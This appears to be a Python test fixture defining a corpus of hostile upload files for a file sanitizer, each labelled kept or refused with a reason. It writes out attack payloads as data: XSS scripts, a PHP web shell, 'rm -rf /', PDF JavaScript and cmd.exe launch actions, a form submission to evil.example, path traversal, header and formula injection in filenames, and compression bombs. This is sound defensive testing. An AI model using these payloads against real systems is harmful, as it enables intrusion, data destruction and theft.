"""The corpus: every file that somebody might bring to do harm or by mistake, and what becomes of it.

``KEPT`` is made harmless and kept; anything else is the code of the reason for which it is refused.
"""

import zipfile
from functools import cache
from io import BytesIO
from typing import NamedTuple

from . import images
from . import pdf_parts as pdf

KEPT = "kept"
HTML = b"<!doctype html><html><script>alert(document.domain)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HEIC = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 200
SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


class Hostile(NamedTuple):
    name: str
    make: object
    becomes: str

    @property
    def content(self):
        return _made(self.make)


@cache
def _made(make):
    return make() if callable(make) else make


def archive(*names, content=b"x"):
    target = BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zipped:
        for name in names:
            zipped.writestr(name, content)
    return target.getvalue()


WRONG_TYPES = [
    Hostile("page.png", HTML, "type"),
    Hostile("page.pdf", HTML, "type"),
    Hostile("drawing.svg", SVG, "type"),
    Hostile("drawing.png", SVG, "type"),
    Hostile("drawing.webp", b"<?xml version='1.0'?>" + SVG, "type"),
    Hostile("text.jpg", "受理编号 20261".encode(), "type"),
    Hostile("film.gif", lambda: images.film("GIF"), "type"),
    Hostile("still.jpg", lambda: images.picture("GIF"), "type"),
    Hostile("fax.png", lambda: images.picture("TIFF"), "type"),
    Hostile("old.jpg", lambda: images.picture("BMP"), "type"),
    Hostile("icon.png", lambda: images.picture("ICO"), "type"),
    Hostile("photo.heic", HEIC, "type"),
    Hostile("photo.jpg", HEIC, "type"),
    Hostile("program.png", b"MZ" + b"\0" * 200, "type"),
    Hostile("program.pdf", b"\x7fELF" + b"\0" * 200, "type"),
    Hostile("script.jpg", b"#!/bin/sh\nrm -rf /\n", "type"),
    Hostile("code.png", b"<?php system($_GET['c']); ?>", "type"),
    Hostile("letter.ps", b"%!PS-Adobe-3.0\n(run) systemdict", "type"),
    Hostile("mail.eml", b"From: a@b.c\r\nSubject: x\r\n\r\nHello", "type"),
    Hostile("nothing.png", b"", "empty"),
    Hostile("nothing.pdf", b"", "empty"),
    Hostile("zeros.jpg", b"\0" * 5000, "type"),
    Hostile("one.png", b"\x89", "type"),
]
ARCHIVES = [
    Hostile("all.zip", lambda: archive("a.txt"), "type"),
    Hostile("bill.docm", lambda: archive("[Content_Types].xml", "word/vbaProject.bin"), "type"),
    Hostile("bill.pdf", lambda: archive("word/document.xml"), "type"),
    Hostile("way.zip", lambda: archive("../../etc/passwd"), "type"),
    Hostile("bomb.png", lambda: archive(*"abcdef", content=b"\0" * 5_000_000), "type"),
    Hostile("bomb.gz", b"\x1f\x8b\x08" + b"\0" * 400, "type"),
]
POLYGLOTS = [
    Hostile("picture+page.png", lambda: images.picture("PNG") + HTML, KEPT),
    Hostile("picture+archive.png", lambda: images.picture("PNG") + archive("x.class"), KEPT),
    Hostile("picture+archive.jpg", lambda: images.picture("JPEG") + archive("x.class"), KEPT),
    Hostile("picture+page.jpg", lambda: images.picture("JPEG", comment=HTML), KEPT),
    Hostile("picture+code.webp", lambda: images.picture("WEBP", xmp=b"<?php x ?>" + HTML), KEPT),
    Hostile("gif+archive.gif", lambda: images.picture("GIF") + archive("x.class"), "type"),
    Hostile("paper+archive.pdf", lambda: pdf.rooted() + archive("x.class"), KEPT),
    Hostile("paper+page.pdf", lambda: pdf.rooted() + HTML, KEPT),
    Hostile("page+paper.pdf", lambda: HTML + pdf.rooted(), "type"),
    Hostile("picture+paper.png", lambda: images.picture("PNG") + pdf.rooted(), KEPT),
    Hostile("archive+paper.pdf", lambda: archive("x") + pdf.rooted(), "type"),
]
PICTURES = [
    Hostile("claims 60000.png", lambda: images.png(60_000, 60_000, images.packed(b"\0" * 1000)), "pixels"),
    Hostile("claims most.png", lambda: images.png(2**31 - 1, 2**31 - 1), "pixels"),
    Hostile("claims 7100.png", lambda: images.png(7_100, 7_100, images.packed(b"\0" * 1000)), "pixels"),
    Hostile("claims 65000.jpg", lambda: images.jpeg_claiming(65_000, 65_000), "pixels"),
    Hostile("claims 16383.webp", lambda: images.webp_claiming(16_383, 16_383), "pixels"),
    Hostile("no width.png", lambda: images.png(0, 10, images.packed(b"")), "broken"),
    Hostile("pixels.png", lambda: images.picture("PNG", (8_000, 8_000), "1"), "pixels"),
    Hostile("text bomb.png", lambda: images.png(1, 1, images.chunk(b"zTXt", b"a\0\0" + zeros())), "broken"),
    Hostile("profile bomb.png", lambda: images.png(1, 1, images.chunk(b"iCCP", b"a\0\0" + zeros())), "broken"),
    Hostile("half.png", lambda: half(images.picture("PNG", (300, 300))), "broken"),
    Hostile("half.jpg", lambda: half(images.picture("JPEG", (300, 300))), "broken"),
    Hostile("half.webp", lambda: half(images.picture("WEBP", (300, 300))), "broken"),
    Hostile("head only.png", b"\x89PNG\r\n\x1a\n", "broken"),
    Hostile("head only.jpg", b"\xff\xd8\xff\xe0\0\x10JFIF\0", "broken"),
    Hostile("broken sum.png", lambda: images.with_broken_sum(images.picture("PNG", (60, 60))), "broken"),
    Hostile("film.png", lambda: images.film("PNG"), "moving"),
    Hostile("film.webp", lambda: images.film("WEBP"), "moving"),
    Hostile("inks.jpg", lambda: images.picture("JPEG", mode="CMYK"), KEPT),
    Hostile("sixteen bits.png", lambda: images.picture("PNG", mode="I;16"), KEPT),
    Hostile("palette.png", lambda: images.picture("PNG", mode="P", transparency=0), KEPT),
    Hostile("clear.png", lambda: images.picture("PNG", mode="RGBA"), KEPT),
    Hostile("photo.jpg", images.photograph, KEPT),
    Hostile("one pixel.png", lambda: images.picture("PNG", (1, 1)), KEPT),
    Hostile("a line.png", lambda: images.picture("PNG", (3000, 1)), KEPT),
    Hostile("another.pdf", lambda: images.picture("PNG"), KEPT),
]
PAPERS = [
    Hostile("script.pdf", lambda: pdf.opening(SCRIPT), "script"),
    Hostile("script in a name.pdf", lambda: pdf.opening(b"<</S/J#61vaScript/J#53(x)>>"), "script"),
    Hostile("script of names.pdf", lambda: pdf.rooted(b"/Names<</JavaScript<</Names[(a)4 0 R]>>>>", SCRIPT), "script"),
    Hostile("script on a click.pdf", lambda: pdf.annotated(SCRIPT), "script"),
    Hostile("script later.pdf", lambda: pdf.opening(b"<</S/GoTo/D[3 0 R/Fit]/Next %s>>" % SCRIPT), "script"),
    Hostile("launch.pdf", lambda: pdf.opening(b"<</S/Launch/F(cmd.exe)>>"), "launch"),
    Hostile("other file.pdf", lambda: pdf.annotated(b"<</S/GoToR/F(x.pdf)/D[0/Fit]>>"), "launch"),
    Hostile("send.pdf", lambda: pdf.annotated(b"<</S/SubmitForm/F(https://evil.example)>>"), "form"),
    Hostile("xfa.pdf", lambda: pdf.rooted(b"/AcroForm<</XFA(x)>>"), "form"),
    Hostile("film.pdf", lambda: pdf.annotated(b"<</S/Rendition/OP 0>>"), "media"),
    Hostile("files.pdf", lambda: pdf.made(lambda writer: writer.add_attachment("x.exe", b"MZ")), "embedded"),
    Hostile("lock.pdf", lambda: pdf.made(lambda writer: writer.encrypt("secret")), "encrypted"),
    Hostile("lock open.pdf", lambda: pdf.made(lambda writer: writer.encrypt("", "owner")), "encrypted"),
    Hostile("cycle.pdf", lambda: pdf.tree_of([b"2 0 R"]), "broken"),
    Hostile("longer cycle.pdf", lambda: pdf.tree_of([b"3 0 R", b"2 0 R"]), "broken"),
    Hostile("points at itself.pdf", lambda: pdf.rooted(b"/X 4 0 R", b"4 0 R"), "broken"),
    Hostile("endless.pdf", pdf.exponential, "broken"),
    Hostile("deep.pdf", lambda: pdf.rooted(b"/X " + b"[" * 50_000 + b"]" * 50_000), "broken"),
    Hostile("deep words.pdf", lambda: pdf.rooted(b"/X " + b"<</A" * 20_000 + b">>" * 20_000), "broken"),
    Hostile("stream bomb.pdf", lambda: pdf.rooted(b"", pdf.bomb(b"/Type/ObjStm/N 9/First 9")), KEPT),
    Hostile("places bomb.pdf", pdf.bomb_of_places, "broken"),
    Hostile("many pages.pdf", lambda: pdf.paged(301), "pages"),
    Hostile("no page.pdf", lambda: pdf.written(b"<</Type/Catalog>>"), "broken"),
    Hostile("half.pdf", lambda: half(pdf.rooted()), "broken"),
    Hostile("no end.pdf", lambda: pdf.rooted().replace(b"%%EOF", b""), "broken"),
    Hostile("head only.pdf", b"%PDF-1.7\n", "broken"),
    Hostile("late head.pdf", lambda: b"\n\n" + pdf.rooted(), "type"),
    Hostile("turns a page.pdf", lambda: pdf.opening(b"[3 0 R/Fit]"), KEPT),
    Hostile("launch elsewhere.pdf", lambda: pdf.rooted(b"/OpenAction<</S 4 0 R/F(cmd.exe)>>", b"/Launch"), "launch"),
    Hostile("script in a link.pdf", lambda: pdf.linked(b"javascript:app.alert\\(1\\)//\x9f"), "script"),
    Hostile("script over two lines.pdf", lambda: pdf.linked(b"java\nscript:x"), "script"),
    Hostile("script in wide letters.pdf", lambda: pdf.linked("\ufeffjavascript:x".encode("utf-16-be")), "script"),
    Hostile("link.pdf", lambda: pdf.annotated(b"<</S/URI/URI(https://carrier.example)>>"), KEPT),
]
TINY = images.picture("PNG", (2, 2))
NAMES = [
    Hostile("../../etc/passwd", TINY, KEPT),
    Hostile("C:\\Windows\\win.ini", TINY, KEPT),
    Hostile("a\r\nSet-Cookie: x=1.png", TINY, KEPT),
    Hostile("cod\u202egnp.exe", TINY, KEPT),
    Hostile("账单🙂👨‍👩‍👧.png", TINY, KEPT),
    Hostile("n" * 300 + ".png", TINY, KEPT),
    Hostile("nul\0byte.png", TINY, KEPT),
    Hostile('"><script>alert(1)</script>.png', TINY, KEPT),
    Hostile("...", TINY, KEPT),
    Hostile("=HYPERLINK(1).png", TINY, KEPT),
    Hostile("%0d%0a.png", TINY, KEPT),
    Hostile("CON.png", TINY, KEPT),
]
CORPUS = [*WRONG_TYPES, *ARCHIVES, *POLYGLOTS, *PICTURES, *PAPERS, *NAMES]


def zeros():
    import zlib

    return zlib.compress(b"\0" * 40_000_000, 9)


def half(data):
    return data[: len(data) // 2]
